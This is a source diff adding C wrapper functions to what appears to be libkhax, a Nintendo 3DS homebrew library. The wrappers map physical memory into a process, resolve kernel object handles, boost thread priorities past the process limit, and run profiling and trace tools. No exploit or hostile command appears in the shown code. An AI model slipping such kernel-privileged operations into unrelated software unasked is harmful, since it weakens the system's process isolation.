+extern "C" Result khaxConvertAddresses(KhaxAddressSpace from, KhaxAddressSpace to, const u32 *in,
+	u32 *out, u32 count, u32 size)
+{
+	using namespace KHAX;
+
+	if ((!in || !out) && (count > 0))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	// The region table doesn't need kernel access, just the version information.
+	const VersionData *versionData = g_versionData ? g_versionData : VersionData::GetForCurrentSystem();
+	if (!versionData)
+	{
+		return MakeError(27, 6, KHAX_MODULE, 39);
+	}
+
+	AddressTranslator translator = GetAddressTranslator(versionData);
+	const AddressTranslator::Region *hint = nullptr;
+
+	Result result = 0;
+	for (u32 x = 0; x < count; ++x)
+	{
+		out[x] = translator.Convert(static_cast<AddressTranslator::Space>(from),
+			static_cast<AddressTranslator::Space>(to), in[x], size, hint);
+		if (out[x] == 0)
+		{
+			result = MakeError(28, 7, KHAX_MODULE, 1013);
+		}
+	}
+
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Map VRAM or ARM11 I/O registers directly into this process.
+extern "C" Result khaxMapPhysicalMemory(u32 userAddress, u32 physicalAddress, u32 size, u32 attributes)
+{
+	return KHAX::PhysicalMapper::Map(userAddress, physicalAddress, size, attributes);
+}
+
+//------------------------------------------------------------------------------------------------
+// Remove a mapping made by khaxMapPhysicalMemory.
+extern "C" Result khaxUnmapPhysicalMemory(u32 userAddress, u32 size, u32 *pendingCores)
+{
+	return KHAX::PhysicalMapper::Unmap(userAddress, size, pendingCores);
+}
+
+//------------------------------------------------------------------------------------------------
+// Start the sampling profiler thread.
+extern "C" Result khaxSamplerStart(u32 intervalMicroseconds, s32 priority)
+{
+	return KHAX::Sampler::Start(intervalMicroseconds, priority);
+}
+
+//------------------------------------------------------------------------------------------------
+// Stop the sampling profiler thread.
+extern "C" Result khaxSamplerStop()
+{
+	return KHAX::Sampler::Stop();
+}
+
+//------------------------------------------------------------------------------------------------
+// Include the calling thread in sampling.
+extern "C" Result khaxSamplerRegisterThread()
+{
+	return KHAX::ThreadRegistry::Register();
+}
+
+//------------------------------------------------------------------------------------------------
+// Exclude the calling thread from sampling.
+extern "C" Result khaxSamplerUnregisterThread()
+{
+	return KHAX::ThreadRegistry::Unregister();
+}
+
+//------------------------------------------------------------------------------------------------
+// Take samples out of the ring.
+extern "C" u32 khaxSamplerRead(KhaxSample *samples, u32 maxCount, u32 *dropped)
+{
+	if (!samples)
+	{
+		return 0;
+	}
+
+	return KHAX::Sampler::Read(samples, maxCount, dropped);
+}
+
+//------------------------------------------------------------------------------------------------
+// Drain the ring into a folded stack file.
+extern "C" Result khaxSamplerWriteFolded(const char *path)
+{
+	return KHAX::Sampler::WriteFolded(path);
+}
+
+//------------------------------------------------------------------------------------------------
+// Snapshot what the registered threads are waiting on.
+extern "C" Result khaxWaitGraphSnapshot(u32 *cycles)
+{
+	return KHAX::WaitGraph::Snapshot(cycles);
+}
+
+//------------------------------------------------------------------------------------------------
+// Write the latest wait-graph snapshot as a Graphviz graph.
+extern "C" Result khaxWaitGraphWrite(const char *path)
+{
+	return KHAX::WaitGraph::Write(path);
+}
+
+//------------------------------------------------------------------------------------------------
+// Resolve handles to kernel objects.
+extern "C" Result khaxResolveHandles(const Handle *handles, KhaxHandleInfo *info, u32 count)
+{
+	return KHAX::HandleResolver::Resolve(handles, info, count);
+}
+
+//------------------------------------------------------------------------------------------------
+// Close a handle, dropping it from the resolver's cache.
+extern "C" Result khaxCloseHandle(Handle handle)
+{
+	return KHAX::HandleResolver::Close(handle);
+}
+
+//------------------------------------------------------------------------------------------------
+// Set thread priorities past the process's priority limit.
+extern "C" Result khaxBoostThreadPriorities(const Handle *threads, const s32 *priorities, u32 count,
+	KhaxPriorityBoost *saved)
+{
+	return KHAX::PriorityBooster::Boost(threads, priorities, count, saved);
+}
+
+//------------------------------------------------------------------------------------------------
+// Put back priorities saved by khaxBoostThreadPriorities.
+extern "C" Result khaxRestoreThreadPriorities(const KhaxPriorityBoost *saved)
+{
+	return KHAX::PriorityBooster::Restore(saved);
+}
+
+//------------------------------------------------------------------------------------------------
+// Drain the SVC-mode trace records into a file.
+extern "C" Result khaxTraceWrite(const char *path)
+{
+	using namespace KHAX;
+
+#ifdef KHAX_DEBUG_TRACE
+	if (!path)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	FILE *file = std::fopen(path, "w");
+	if (!file)
+	{
+		return MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+
+	Result result = TraceBuffer::Drain(file);
+	std::fclose(file);
+	return result;
+#else
+	KHAX_UNUSED(path);
+	return MakeError(28, 6, KHAX_MODULE, 1012);
+#endif
+}
+
+//------------------------------------------------------------------------------------------------
+// Time libkhax's internal primitives into a CSV file.
+extern "C" Result khaxBenchmark(const char *path, u32 iterations)
+{
+	return KHAX::Benchmark::Run(path, iterations);
+}
+
+//------------------------------------------------------------------------------------------------
+// Time a function with khaxBenchmark's harness.
+extern "C" Result khaxBenchmarkFunction(Result (*function)(void *context), void *context, u32 iterations,
+	KhaxBenchmarkResult *summary)
+{
+	return KHAX::Benchmark::TimeFunction(function, context, iterations, summary);
+}